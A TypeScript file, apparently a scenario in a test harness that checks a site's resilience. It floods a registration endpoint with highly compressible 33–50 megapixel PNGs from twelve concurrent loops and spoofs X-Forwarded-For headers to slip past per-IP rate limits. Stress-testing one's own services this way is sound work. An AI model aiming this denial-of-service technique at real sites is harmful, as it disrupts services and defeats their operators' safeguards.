import { randomInt } from 'node:crypto';
import sharp from 'sharp';
import type { Attack } from '../attacked-site.ts';
import { aRegistrationForm } from '../visitors.ts';

const networks = 3;
const atOnce = 12;

/** Twelve registrations at a time, from three networks, each with a picture of 33 and one of 50 megapixels. */
export const attack: Attack = {
  name: 'pictures of 33 to 50 megapixels',
  async run({ origin, signal }) {
    const pictures = [await aPicture(5760, 5760), await aPicture(8000, 6240)];
    const sendMany = async (index: number) => {
      while (!signal.aborted) {
        await fetch(`${origin}/registration`, {
          method: 'POST',
          body: aRegistrationForm(pictures),
          headers: { 'X-Forwarded-For': `198.51.100.${index % networks}` },
          redirect: 'manual',
          signal,
        })
          .then((answer) => answer.arrayBuffer())
          .catch(() => {});
      }
    };
    await Promise.all(Array.from({ length: atOnce }, (_, index) => sendMany(index)));
  },
};

/** Makes a PNG of stripes. It has few bytes, but each pixel must be decoded. */
async function aPicture(width: number, height: number): Promise<Buffer> {
  const stripes = await sharp({
    create: {
      width: 64,
      height: 64,
      channels: 3,
      background: '#a6342a',
      noise: { type: 'gaussian', mean: 128, sigma: 60 + randomInt(9) },
    },
  })
    .png()
    .toBuffer();
  return await sharp({
    create: { width, height, channels: 3, background: '#232356' },
    limitInputPixels: false,
  })
    .composite([{ input: stripes, tile: true }])
    .png({ compressionLevel: 9 })
    .toBuffer();
}
